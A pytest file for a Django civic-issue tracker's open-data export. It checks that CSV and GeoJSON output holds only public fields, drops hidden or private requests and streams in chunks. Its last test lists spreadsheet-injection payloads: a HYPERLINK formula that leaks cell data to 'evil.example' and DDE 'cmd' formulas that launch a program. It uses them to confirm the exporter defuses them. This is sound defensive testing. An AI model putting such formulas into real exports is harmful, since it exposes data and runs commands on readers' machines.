"""Open-data export: public fields only, one column per area kind, streamed in chunks."""

import csv
import io
import itertools
import json

import pytest
from django.core.management import CommandError, call_command

from fixboard.reports.actions import ContactDetails, submit_request
from fixboard.reports.exporting import export_requests, iter_public_rows
from fixboard.reports.models import ServiceRequest
from tests.factories import INSIDE_EAST, ServiceTypeFactory, submit_pothole
from tests.reports.test_import_helpers import SF, run_import, san_francisco, write_csv

pytestmark = pytest.mark.django_db

PRIVATE = ("Ana Reyes", "ana@example.org", "5551234567", "secret answer")


def _requests(city):
    """Two public requests (one with a contact), and three that must never be exported."""
    public_west = submit_request(
        service_type=city.pothole,
        lat=34.05,
        long=-118.25,
        attributes={"depth": "deep"},
        description="A pothole in the right lane",
        address="100 W 1st St",
        address_id="MAR-545483",
        reporter=ContactDetails(name="Ana Reyes", email="ana@example.org", phone="555 123 4567"),
        actor=None,
    )
    public_east = submit_pothole(city, at=INSIDE_EAST)
    hidden = submit_pothole(city)
    ServiceRequest.objects.filter(pk=hidden.pk).update(hidden=True)
    unconfirmed = submit_pothole(city, email="new@example.org", awaiting_confirmation=True)
    private_type = ServiceTypeFactory(jurisdiction=city.jurisdiction, code="welfare", public=False)
    private = submit_request(
        service_type=private_type, lat=34.05, long=-118.25, description="secret answer", actor=None
    )
    return [public_west, public_east], [hidden, unconfirmed, private]


def test_csv_has_public_fields_area_columns_and_nothing_private(city):
    (west, east), hidden = _requests(city)
    out = io.StringIO()

    count = export_requests(jurisdiction=city.jurisdiction, format="csv", out=out)

    text = out.getvalue()
    rows = list(csv.DictReader(io.StringIO(text)))
    assert count == 2
    assert [r["id"] for r in rows] == [west.public_id, east.public_id]
    assert [r["area_ward"] for r in rows] == ["1", "2"]
    first = rows[0]
    assert first["service_code"] == "pothole" and first["service_name"] == "Pothole"
    assert first["status"] == "new" and first["agency_responsible"] == "Streets"
    assert first["lat"] == "34.05" and first["long"] == "-118.25"
    assert first["address"] == "100 W 1st St"
    assert [r["address_id"] for r in rows] == ["MAR-545483", ""]
    assert first["requested_datetime"].endswith(("-08:00", "-07:00"))  # Los Angeles time
    assert first["closed_datetime"] == ""
    for secret in PRIVATE:
        assert secret not in text
    for column in ("email", "phone", "name", "reporter", "attributes"):
        assert column not in rows[0]
    assert not {r.public_id for r in hidden} & {r["id"] for r in rows}


def test_geojson_features_are_points_with_the_same_properties(city):
    (west, east), _hidden = _requests(city)
    out = io.StringIO()

    export_requests(jurisdiction=city.jurisdiction, format="geojson", out=out)

    data = json.loads(out.getvalue())
    assert data["type"] == "FeatureCollection"
    first, second = data["features"]
    assert first["id"] == west.public_id
    assert first["geometry"] == {"type": "Point", "coordinates": [-118.25, 34.05]}
    assert first["properties"]["area_ward"] == "1"
    assert second["properties"]["area_ward"] == "2"
    assert "lat" not in first["properties"]
    for secret in PRIVATE:
        assert secret not in out.getvalue()


def test_empty_jurisdiction_exports_valid_documents(city):
    out = io.StringIO()
    export_requests(jurisdiction=city.jurisdiction, format="geojson", out=out)
    assert json.loads(out.getvalue()) == {"type": "FeatureCollection", "features": []}


def test_rows_are_read_chunk_by_chunk_with_their_areas(city):
    made = [submit_pothole(city, at=INSIDE_EAST if i % 2 else (34.05, -118.25)) for i in range(5)]
    rows = list(iter_public_rows(city.jurisdiction, chunk=2))
    assert [r["id"] for r in rows] == [r.public_id for r in made]
    assert [r["area_ward"] for r in rows] == ["1", "2", "1", "2", "1"]


def test_command_writes_file_or_stdout_and_refuses_unknown_jurisdiction(city, tmp_path, capsys):
    _requests(city)
    target = tmp_path / "requests.geojson"
    slug = city.jurisdiction.slug

    call_command("export_requests", jurisdiction=slug, format="geojson", output=str(target))

    assert len(json.loads(target.read_text())["features"]) == 2
    assert "2 requests written to" in capsys.readouterr().out
    call_command("export_requests", jurisdiction=slug)
    assert capsys.readouterr().out.startswith("id,source_id,service_code,")
    with pytest.raises(CommandError, match="No jurisdiction atlantis"):
        call_command("export_requests", jurisdiction="atlantis")


def test_imported_city_exports_source_ids_and_tracts(shared_data, tmp_path):
    city = san_francisco(shared_data)
    # The first 500 cases of the real file: enough to check every column.
    with open(shared_data / SF, encoding="utf-8", newline="") as f:
        header, *rows = itertools.islice(csv.reader(f), 501)
    result = run_import(write_csv(tmp_path / "sf-500.csv", header, rows), city, "sf")
    out = io.StringIO()

    count = export_requests(jurisdiction=city, format="csv", out=out)

    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert count == len(rows) == result.created
    by_source = {r["source_id"]: r for r in rows}
    case = by_source["3600298"]
    assert case["service_name"] == "Sewer Issues" and case["status"] == "new"
    assert case["requested_datetime"] == "2014-04-30T14:51:52-07:00"
    assert case["channel"] == "phone"
    assert all(r["area_tract"].startswith("06075") for r in rows)


FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def test_csv_cells_never_start_a_formula_but_numbers_stay_numbers(city, tmp_path):
    for formula in FORMULAS:
        submit_pothole(city, description=formula, address=formula)
    # Text stored before the domain stripped it (an old import) may start with a tab or CR.
    legacy = submit_pothole(city)
    ServiceRequest.objects.filter(pk=legacy.pk).update(
        description="\t=1+1", status_notes="\r=1+1", source_id="-42"
    )
    target = tmp_path / "export.csv"

    call_command("export_requests", jurisdiction=city.jurisdiction.slug, output=str(target))

    rows = list(csv.DictReader(target.open(newline="", encoding="utf-8")))
    assert [r["description"] for r in rows] == [f"'{f}" for f in FORMULAS] + ["'\t=1+1"]
    assert [r["address"] for r in rows[:4]] == [f"'{f}" for f in FORMULAS]
    assert (rows[4]["status_notes"], rows[4]["source_id"]) == ("'\r=1+1", "'-42")
    for row in rows:
        assert (row["lat"], row["long"], row["supporters"]) == ("34.05", "-118.25", "0")
        assert row["requested_datetime"][:2] == "20"
        texts = [v for k, v in row.items() if k not in ("lat", "long")]
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in texts)
